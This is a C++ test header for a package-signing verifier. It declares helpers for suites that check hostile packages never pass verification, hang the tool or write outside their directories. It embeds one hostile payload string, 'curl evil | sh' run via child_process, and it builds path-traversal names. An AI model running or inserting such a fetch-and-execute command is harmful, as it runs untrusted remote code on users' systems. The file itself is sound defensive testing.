#ifndef KVBSIGN_TEST_HOSTILE_RUN_H
#define KVBSIGN_TEST_HOSTILE_RUN_H

// What the hostile suites share: a workspace per row whose files outside the package no run
// may touch, the run of the built tool with the bars every row must meet, and the table of
// hostile packages that must never pass.
//
// The tool decides whether code gets installed. Whatever a package holds, it must not end in
// a success status (0, 51 or 52) unless every file is covered by a signature that verifies;
// and neither a package nor a CRL server may hang the tool, crash it, make it write outside
// its own temporary directories, or leave anything behind in /tmp.

#include <chrono>
#include <cstdint>
#include <functional>
#include <map>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "cli_runner.h"
#include "package_builder.h"
#include "reader_agreement.h"

namespace kvtest {
namespace hostile {

using Clock = std::chrono::steady_clock;

inline constexpr char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
inline constexpr std::uint64_t kMegabyte = 1024 * 1024;

double secondsSince(Clock::time_point start);

std::string repeat(const std::string& piece, std::size_t times);

// A directory outside the package with a file in it. Both are stamped with an old time, so a
// rewrite shows in the modification time even within the same second.
class Canaries {
public:
    explicit Canaries(const std::string& dir);
    // Every entry below the directory (including itself) with its kind, size, time and bytes.
    std::map<std::string, std::string> snapshot() const;
    // What was removed, changed or added since the directory was made; empty when nothing.
    std::string changes() const;

private:
    std::string dir_;
    std::map<std::string, std::string> before_;
};

// Per-row workspace: the package and, beside it, files that no run may touch.
struct Workspace {
    ScratchDir scratch;
    Canaries canaries{scratch.file("outside")};

    std::string outside() const { return scratch.file("outside"); }
    std::string canary() const { return scratch.file("outside/canary.txt"); }
    std::string pkgDir() const { return scratch.file("pkg"); }
    std::string pkgZip() const { return scratch.file("pkg.kvb"); }
    // A relative name that climbs from any directory to the root and down to `absolute`.
    std::string climbing(const std::string& absolute) const { return repeat("../", 12) + absolute.substr(1); }
};

PackageBuilder basePackage();

// Builds into the package directory.
SignedPackage buildDir(Workspace& w, const PackageBuilder& b);

// The root stores and the environment of every run, made once per suite.
struct Suite {
    ScratchDir dir;
    std::string roots = dir.file("roots.pem");
    std::string emptyRoots = dir.file("empty-roots.pem");
    Suite();
    EnvList env(const std::string& rootsFile = "") const;
};
Suite& suite();

// The fixture of the hostile suites: the root stores of a suite go once its tests have run.
class HostileTest : public testing::Test {
protected:
    static void TearDownTestSuite();
};

struct Observed {
    CliResult result;
    double seconds = 0;
};

// One run with the bars every row must meet: finished in time, no temporary entry left,
// nothing outside the package touched.
Observed runChecked(Workspace& w, const std::vector<std::string>& args, const std::string& rootsFile = "",
                    int timeoutSeconds = 30, const EnvList& moreEnv = {});

struct Row {
    const char* name;
    std::function<std::string(Workspace&)> make;  // builds the package, returns the path to verify
    int status;
};

void printRow(const char* table, const Row& row, const Observed& o);

// An archive that the tool extracts must give other readers the tree its extractor made.
void expectReadersAgreeIfExtracted(const std::string& path, const ExtractionWatch& watch);

// Verifies every row's package (with the report, offline): none may pass, each must end in
// its status.
void runHostile(const char* table, const std::vector<Row>& rows);

}  // namespace hostile
}  // namespace kvtest

#endif
